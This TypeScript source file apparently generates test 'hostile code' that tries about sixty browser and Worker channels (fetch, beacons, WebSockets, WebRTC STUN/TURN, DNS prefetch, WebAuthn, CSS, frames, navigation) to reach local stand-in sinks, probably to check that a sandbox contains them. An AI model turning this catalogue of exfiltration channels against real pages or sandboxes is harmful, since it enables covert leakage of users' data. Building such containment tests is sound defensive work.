/**
 * Ways to send something out of a page or a Worker, as expressions of hostile code. `to` names the
 * targets: `to.sink(name)` on another origin, `to.site(name)` on the page's own, `to.name(name)` to
 * be looked up, and the ports of the other listeners. An expression throws if its scope lacks what
 * it needs.
 */
const CHANNELS: Record<string, string> = {
  fetch: `fetch(to.sink('fetch'), { mode: 'no-cors' })`,
  keepalive: `fetch(to.sink('keepalive'), { method: 'POST', body: 'x', mode: 'no-cors', keepalive: true })`,
  xhr: `const x = new XMLHttpRequest(); x.open('POST', to.sink('xhr')); x.send('x')`,
  beacon: `if (!navigator.sendBeacon(to.sink('beacon'), 'x')) throw new Error('refused')`,
  webSocket: `new WebSocket(to.sink('webSocket').replace('http', 'ws'))`,
  eventSource: `new EventSource(to.sink('eventSource'))`,
  import: `import(to.sink('import'))`,
  sharedWorker: `new SharedWorker(to.site('sharedWorker'))`,
  serviceWorker: `navigator.serviceWorker.register(to.site('serviceWorker'))`,
  cache: `caches.open('x').then((cache) => cache.add(to.sink('cache')))`,
  font: `new FontFace('leak', 'url(' + to.sink('font') + ')').load()`,
  canvasFilter: `const c = new OffscreenCanvas(9, 9).getContext('2d'); c.filter = 'url(' + to.sink('canvasFilter') + '#f)'; c.fillRect(0, 0, 9, 9)`,
  compile: `WebAssembly.compileStreaming(fetch(to.sink('compile')))`,
  evaluated: `(0, eval)("import('" + to.sink('evaluated') + "')")`,
  webTransport: `new WebTransport('https://127.0.0.1:' + to.ports.quic + '/')`,
  notification: `new Notification('leak', { icon: to.sink('notification') })`,
  stun: `gather('stun:127.0.0.1:' + to.ports.stun)`,
  turn: `gather('turn:127.0.0.1:' + to.ports.turn + '?transport=tcp')`,
  image: `new Image().src = to.sink('image')`,
  style: `put('style').textContent = '@import url(' + to.sink('style') + ')'`,
  background: `put('div').style.background = 'url(' + to.sink('background') + ')'`,
  stylesheet: `put('link', { rel: 'stylesheet', href: to.sink('stylesheet') })`,
  prefetch: `put('link', { rel: 'prefetch', href: to.sink('prefetch') })`,
  preload: `put('link', { rel: 'preload', as: 'script', href: to.sink('preload') })`,
  modulepreload: `put('link', { rel: 'modulepreload', href: to.sink('modulepreload') })`,
  manifest: `put('link', { rel: 'manifest', href: to.sink('manifest') })`,
  script: `put('script', { src: to.sink('script') })`,
  iframe: `put('iframe', { src: to.sink('iframe') })`,
  object: `put('object', { data: to.sink('object') })`,
  embed: `put('embed', { src: to.sink('embed') })`,
  video: `put('video', { src: to.sink('video') })`,
  svgImage: `put('div').innerHTML = '<svg width="9" height="9"><image href="' + to.sink('svgImage') + '" width="9" height="9"/></svg>'`,
  form: `put('iframe', { name: 'hole' }); put('form', { action: to.sink('form'), target: 'hole' }).submit()`,
  preconnect: `put('link', { rel: 'preconnect', href: 'http://127.0.0.1:' + to.ports.connect })`,
  dnsPrefetch: `put('link', { rel: 'dns-prefetch', href: to.name('dnsprefetch') })`,
  dnsPreconnect: `put('link', { rel: 'preconnect', href: to.name('dnspreconnect') })`,
  dnsFetch: `fetch(to.name('dnsfetch'), { mode: 'no-cors' })`,
  dnsWebSocket: `new WebSocket(to.name('dnswebsocket').replace('http', 'ws'))`,
  dnsImport: `import(to.name('dnsimport'))`,
  dnsStun: `gather(to.name('dnsstun').replace('http://', 'stun:'))`,
  dnsWebAuthn: `navigator.credentials.get({ publicKey: { challenge: new Uint8Array(16), rpId: to.name('dnswebauthn').replace(/http:..|:.*/g, '') } })`,
  identity: `navigator.credentials.get({ identity: { providers: [{ configURL: to.sink('identity'), clientId: 'x' }] } })`,
  blobFrame: `blobFrame('<img src="' + to.sink('blobFrameImage') + '"><script>fetch("' + to.sink('blobFrameScript') + '")</' + 'script>')`,
  blobFrameRefresh: `blobFrame('<meta http-equiv="refresh" content="0;url=' + to.sink('blobFrameRefresh') + '">')`,
  dataFrame: `put('iframe', { src: 'data:text/html,<img src="' + to.sink('dataFrame') + '">' })`,
  srcdocFrame: `put('iframe', { srcdoc: '<img src="' + to.sink('srcdocFrame') + '">' })`,
  window: `if (!open(to.sink('window'))) throw new Error('refused')`,
};

/**
 * Ways that block a Worker until an answer comes, so they come last. In a nested Worker the answer
 * may never come (Firefox, from a file).
 */
const BLOCKING: Record<string, string> = {
  importScripts: `importScripts(to.sink('importScripts'))`,
  syncXhr: `const y = new XMLHttpRequest(); y.open('GET', to.sink('syncXhr'), false); y.send()`,
  nestedWorker: `new Worker(to.site('nestedWorker'))`,
  blobWorker: `new Worker(URL.createObjectURL(new Blob(["fetch('" + to.sink('blobWorker') + "', { mode: 'no-cors' })"])))`,
  dataWorker: `new Worker("data:text/javascript,fetch('" + to.sink('dataWorker') + "', { mode: 'no-cors' })")`,
};

/** What a browser lets a page do only on a user gesture. */
const PRESSED = `open(to.sink('window'))`;

/** Ways to navigate the tab, out of a frame first. They leave the page, so they come last. */
const NAVIGATION: Record<string, string> = {
  ping: `put('a', { href: '#', ping: to.sink('ping') }).click()`,
  topLocation: `if (top === self) throw new Error('no frame'); top.location.href = to.sink('topLocation')`,
  topLink: `if (top === self) throw new Error('no frame'); put('a', { href: to.sink('topLink'), target: '_top' }).click()`,
  topOpen: `if (top === self) throw new Error('no frame'); open(to.sink('topOpen'), '_top')`,
  refresh: `put('meta', { 'http-equiv': 'refresh', content: '0;url=' + to.sink('refresh') })`,
  navigation: `location.href = to.sink('navigation')`,
};

/**
 * Hostile code that tries every channel once, then reports that it has. A letter before each name
 * says where it ran: p for the page, m for a module Worker, c for a classic one. In a page it then
 * waits for keys: `b` leaves, any other opens a window.
 */
export function hostileCode(ports: Record<string, number>, run: string): string {
  const listOf = (channels: Record<string, string>) =>
    `[${Object.values(channels)
      .map((code) => `() => { ${code} },`)
      .join('\n')}]`;
  return `(async () => {
    const scope = typeof document === 'undefined' ? self.name[0] : 'p';
    const ports = ${JSON.stringify(ports)};
    const to = {
      ports,
      sink: (name) => 'http://127.0.0.1:' + ports.sink + '/' + scope + '.' + name,
      site: (name) => 'http://localhost:' + ports.site + '/' + scope + '.' + name,
      name: (name) => 'http://' + scope + '.' + name + '.${run}.leak.test:' + ports.sink,
    };
    const put = (tag, attributes = {}) => {
      const element = document.createElement(tag);
      for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
      document.body.append(element);
      return element;
    };
    const blobFrame = (html) => put('iframe', { src: URL.createObjectURL(new Blob([html], { type: 'text/html' })) });
    const gather = (urls) => {
      const peer = new RTCPeerConnection({ iceServers: [{ urls, username: 'x', credential: 'x' }] });
      peer.createDataChannel('x');
      peer.createOffer().then((offer) => peer.setLocalDescription(offer));
    };
    addEventListener('unhandledrejection', (event) => event.preventDefault());
    const each = (attempts) => {
      for (const attempt of attempts) try { attempt(); } catch {}
    };
    each(${listOf(CHANNELS)});
    await new Promise((resolve) => setTimeout(resolve, 300));
    if (scope !== 'p') {
      postMessage('tried');
      each(${listOf(BLOCKING)});
    }
    if (scope === 'p') addEventListener('keydown', ({ key }) => {
      if (key !== 'b') return each([() => { ${PRESSED} }]);
      document.title = 'left';
      each(${listOf(NAVIGATION)});
    });
    if (scope === 'p') document.title = 'tried';
  })();`;
}
